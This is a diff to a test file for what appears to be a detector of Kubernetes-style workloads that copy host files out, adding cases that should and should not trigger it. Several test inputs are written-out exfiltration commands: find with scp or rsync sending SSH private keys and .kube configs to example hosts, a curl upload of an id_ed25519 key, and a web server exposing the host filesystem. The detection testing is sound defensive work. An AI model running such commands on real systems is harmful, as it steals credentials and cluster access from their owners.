@@ -6,6 +6,16 @@ const onMount = (path: string, mountPath: string, text: string) =>
 
 indicatorTable(commandHostFileSend, {
   fires: {
+    'keys of homes, by a search that begins above the mount': onMount(
+      '/home',
+      '/n/home',
+      "find /n \\( -name 'id_*' -o -path '*/.kube/*' \\) -exec scp -q {} sync@in.example.org:k/ \\;",
+    ),
+    'configuration of clients, by a search in the mount': onMount(
+      '/root',
+      '/r',
+      "find /r -type f -path '*/.kube/*' -exec rsync {} in.example.org::k/ \\;",
+    ),
     'the node as a web site': cronJob(
       mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/host']),
     ),
@@ -72,6 +82,13 @@ requests.post('https://hooks.example.com/x', data={'sum': hashlib.sha256(held).h
     'keys of a person': scriptOn('/home/alice/.ssh', 'curl -F f=@/host/id_ed25519 https://files.example.com/a'),
   },
   staysSilent: {
+    'logs of homes, by a search that begins above the mount': onMount(
+      '/home',
+      '/n/home',
+      "find /n -name 'build-*.log' -exec scp -q {} logs@files.example.com:l/ \\;",
+    ),
+    'a backup of homes': onMount('/home', '/n/home', 'rsync -a /n/home/ backup@files.example.com:homes/'),
+    'keys that are only counted': onMount('/home', '/n/home', "find /n -name 'id_*' -exec chmod 600 {} \\;"),
     'a checksum, in code': cronJob(
       mounting('/etc', {}, [
         'python3',
